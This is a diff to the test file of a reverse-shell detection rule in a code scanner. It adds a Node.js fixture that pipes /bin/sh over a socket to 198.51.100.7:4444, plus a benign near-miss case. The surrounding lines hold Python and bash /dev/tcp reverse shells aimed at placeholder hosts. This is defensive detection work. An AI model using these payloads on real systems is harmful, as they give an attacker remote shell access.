@@ -34,9 +34,24 @@ testRule(reverseShell, {
           'import socket\nfrom subprocess import Popen\ns = socket.create_connection(("h.example", 1))\nPopen(["sh"], stdin=s, stdout=s)\n',
       },
     },
+    {
+      of: 'a shell that a socket is piped into',
+      files: {
+        'a.js':
+          "const net = require('net'), sh = require('child_process').spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '198.51.100.7', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n",
+      },
+      severity: 'critical',
+    },
     { of: 'a document', files: { 'SKILL.md': '```\nbash -i >& /dev/tcp/relay.example/1 0>&1\n```\n' } },
   ],
   silent: [
+    {
+      of: 'a shell with a script beside a connection',
+      files: {
+        'a.js':
+          "require('net').connect(5432, 'db.example');\nrequire('child_process').spawn('/bin/sh', ['build.sh']);\n",
+      },
+    },
     { of: 'a look whether a port is open', files: script('nc -z localhost 5432') },
     {
       of: 'a socket and a process that have nothing to do with each other',
